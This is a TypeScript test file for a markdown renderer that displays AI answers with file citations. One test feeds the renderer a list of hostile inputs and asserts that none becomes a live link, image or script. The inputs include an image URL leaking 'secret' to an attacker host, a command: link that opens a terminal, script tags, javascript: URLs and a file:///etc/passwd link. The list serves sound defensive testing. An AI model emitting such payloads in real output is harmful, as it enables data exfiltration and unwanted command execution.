import assert from "node:assert/strict";
import { test } from "node:test";
import type { Citation } from "../src/protocol";
import { renderMarkdown } from "../src/view/markdown";

const range = { start: { line: 2, character: 0 }, end: { line: 4, character: 0 } };
const citation: Citation = { index: 1, path: "a é.py", startLine: 3, endLine: 4, commit: "", sha256: "", verified: true, uri: "file:///w/a%20%C3%A9.py", range };

test("a citation is a link that names its source", () => {
  const html = renderMarkdown("Reads one file [1](file:///w/a%20%C3%A9.py#L3).", [citation]);
  assert.match(html, /<a href="#" class="citation" data-citation="1" title="a é.py:3-4"/);
});

test("nothing else that a model writes is a link, an image, HTML or a command", () => {
  const hostile = [
    "![x](http://attacker/?q=secret)", "[click](command:workbench.action.terminal.new)", "[x](http://attacker)",
    "<img src=http://attacker>", "<script>alert(1)</script>", "<http://attacker>", "[x]\n\n[x]: http://attacker", "[a](javascript:alert(1))",
    "http://attacker", "![x][r]\n\n[r]: data:image/png;base64,AA", "[x](file:///etc/passwd)", "[1](file:///w/a%20%C3%A9.py#L4)",
  ];
  for (const markdown of hostile) {
    const html = renderMarkdown(markdown, [citation]);
    assert.doesNotMatch(html, /<(a|img|script|iframe|svg|object)\b/i, markdown);
  }
});

test("code is highlighted in a language that is known and plain in one that is not", () => {
  assert.match(renderMarkdown("```python\ndef f(): pass\n```", []), /hljs-keyword/);
  assert.match(renderMarkdown("```klingon\n<b> 😀\n```", []), /&#60;b&#62; 😀/);
  assert.match(renderMarkdown("```python\n\"<img src=x>\"\n```", []), /&lt;img/);
});

test("half an answer renders too", () => {
  for (const part of ["", "`", "```py\nx = ", "[1", "| a |\n|-", "**bo"]) assert.equal(typeof renderMarkdown(part, []), "string");
});
